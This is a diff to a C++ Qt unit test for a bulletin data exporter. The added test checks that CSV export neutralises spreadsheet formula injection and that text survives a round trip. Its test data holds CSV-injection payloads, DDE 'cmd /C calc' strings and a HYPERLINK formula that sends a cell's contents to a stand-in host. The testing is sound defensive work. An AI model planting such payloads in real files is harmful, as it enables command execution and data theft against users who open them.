@@ -13,6 +13,7 @@
 #include "textdecoder.h"
 
 #include <QFile>
+#include <QRegularExpression>
 #include <QStringEncoder>
 #include <QTemporaryDir>
 #include <QtTest>
@@ -116,6 +117,8 @@ private slots:
     void madeUpIdsKeepClearOfTheTables_data();
     void madeUpIdsKeepClearOfTheTables();
     void suffixChoosesReader();
+    void formulasAreNotRun_data();
+    void formulasAreNotRun();
     void csvTableRoundTrip_data();
     void csvTableRoundTrip();
     void problems_data();
@@ -495,6 +498,107 @@ void TestCsv::suffixChoosesReader()
         qPrintable(describeProblems(json.problems)));
 }
 
+void TestCsv::formulasAreNotRun_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<bool>("quoted"); // written after a quote
+    QTest::addRow("hyperlink") << QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")") << true;
+    QTest::addRow("plus-dde") << QStringLiteral("+cmd|' /C calc'!A0") << true;
+    QTest::addRow("at-sum") << QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0") << true;
+    QTest::addRow("minus") << QStringLiteral("-2+3+cmd|' /C calc'!A0") << true;
+    QTest::addRow("tab") << QStringLiteral("\t=1+1") << true;
+    QTest::addRow("carriage-return") << QStringLiteral("\r=1+1") << true;
+    // Text that already begins with the quote keeps it: one more is written, one is taken away.
+    QTest::addRow("quote-then-formula") << QStringLiteral("'=1+1") << true;
+    QTest::addRow("two-quotes-then-formula") << QStringLiteral("''@x") << true;
+    QTest::addRow("quote-then-text") << QStringLiteral("'按可比价格") << false;
+    QTest::addRow("quote-alone") << QStringLiteral("'") << false;
+    QTest::addRow("formula-later") << QStringLiteral("增长 =1.7%") << false;
+    QTest::addRow("plain") << QStringLiteral("按可比价格计算") << false;
+}
+
+void TestCsv::formulasAreNotRun()
+{
+    QFETCH(QString, text);
+    QFETCH(bool, quoted);
+    // Given a JSON bulletin whose texts, an id among them, begin with what a spreadsheet runs, and a negative value
+    auto document = std::make_shared<Document>(*loadBuiltIn().document);
+    Section &section = document->sections[1];
+    Indicator &indicator = section.indicators[0];
+    const QString idBefore = indicator.id;
+    section.title = text + QStringLiteral("标题");
+    indicator.name = text + QStringLiteral("名称");
+    indicator.nameEn = text;
+    indicator.unit = text;
+    indicator.source = text + QStringLiteral("来源");
+    indicator.note = text;
+    indicator.targetText = text;
+    indicator.rankScope = text;
+    indicator.gapUnit = text;
+    indicator.value = -3.5;
+    indicator.valueText = text;
+    indicator.period = text + QStringLiteral("2020");
+    indicator.id = QStringLiteral("-") + idBefore;
+    for (KeyFigure &figure : document->keyFigures) {
+        if (figure.indicatorId == idBefore)
+            figure.indicatorId = indicator.id;
+    }
+    for (Section &other : document->sections) {
+        for (ChartSpec &chart : other.charts)
+            chart.indicatorIds.replaceInStrings(QRegularExpression(QStringLiteral("^%1$").arg(idBefore)), indicator.id);
+    }
+    const LoadResult json = BulletinLoader::loadJson(BulletinWriter::toJson(*document), QStringLiteral("in.json"));
+    QVERIFY2(json.ok(), qPrintable(describeProblems(json.problems)));
+
+    // When it is exported as CSV
+    const QByteArray csv = BulletinWriter::toCsv(*json.document);
+
+    // Then no text cell begins with = + - @, a tab or a carriage return, and the value stays a number
+    const CsvTable table = CsvTable::parse(QString::fromUtf8(csv.mid(Utf8Bom.size())));
+    QVERIFY2(table.ok, qPrintable(table.errorMessage));
+    const QStringList header = table.rows.first().fields;
+    const QStringList numbers { QStringLiteral("value"), QStringLiteral("province_value"), QStringLiteral("rank"),
+        QStringLiteral("rank_of"), QStringLiteral("gap"), QStringLiteral("completion") };
+    static const QRegularExpression formula(QStringLiteral("^[=+\\-@\t\r]"));
+    int protectedCells = 0;
+    for (qsizetype r = 1; r < table.rows.size(); ++r) {
+        const QStringList &cells = table.rows.at(r).fields;
+        for (qsizetype c = 0; c < cells.size(); ++c) {
+            if (numbers.contains(header.at(c)))
+                continue;
+            QVERIFY2(!formula.match(cells.at(c)).hasMatch(),
+                qPrintable(QStringLiteral("row %1, column %2: %3").arg(r).arg(header.at(c), cells.at(c))));
+            if (cells.at(c).startsWith(QLatin1Char('\'') + text))
+                ++protectedCells;
+        }
+    }
+    QCOMPARE(protectedCells > 0, quoted);
+    const qsizetype valueColumn = header.indexOf(QStringLiteral("value"));
+    const auto row = std::find_if(table.rows.cbegin() + 1, table.rows.cend(),
+        [&](const CsvTable::Row &r) { return r.fields.at(header.indexOf(QStringLiteral("id"))).endsWith(idBefore); });
+    QVERIFY(row != table.rows.cend());
+    QCOMPARE(row->fields.at(valueColumn), QStringLiteral("-3.5"));
+
+    // and read back, every text is as it was
+    const LoadResult again = BulletinLoader::loadCsv(csv, QStringLiteral("out.csv"));
+    QVERIFY2(again.ok(), qPrintable(describeProblems(again.problems)));
+    const Indicator *read = again.document->findIndicator(indicator.id);
+    QVERIFY(read);
+    QCOMPARE(read->name, indicator.name);
+    QCOMPARE(read->nameEn, indicator.nameEn);
+    QCOMPARE(read->unit, indicator.unit);
+    QCOMPARE(read->source, indicator.source);
+    QCOMPARE(read->note, indicator.note);
+    QCOMPARE(read->targetText, indicator.targetText);
+    QCOMPARE(read->rankScope, indicator.rankScope);
+    QCOMPARE(read->gapUnit, indicator.gapUnit);
+    QCOMPARE(read->valueText, indicator.valueText);
+    QCOMPARE(read->period, indicator.period);
+    QCOMPARE(read->value, std::optional<double>(-3.5));
+    QCOMPARE(again.document->findSection(section.id)->title, section.title);
+    QCOMPARE(BulletinWriter::toCsv(*again.document), csv);
+}
+
 void TestCsv::csvTableRoundTrip_data()
 {
     QTest::addColumn<QStringList>("fields");
@@ -503,6 +607,8 @@ void TestCsv::csvTableRoundTrip_data()
     QTest::addRow("doubled-quotes") << QStringList { QStringLiteral("实现\"双过半\"目标"), QStringLiteral("\"") };
     QTest::addRow("line-breaks") << QStringList { QStringLiteral("一\n二"), QStringLiteral("三\r\n四") };
     QTest::addRow("edge-spaces") << QStringList { QStringLiteral(" 前"), QStringLiteral("后 ") };
+    QTest::addRow("edge-tabs-and-ideographic-spaces")
+        << QStringList { QStringLiteral("\t前"), QStringLiteral("后\t"), QStringLiteral("　中　") };
     QTest::addRow("empty-fields") << QStringList { QString(), QString(), QString() };
 }
 
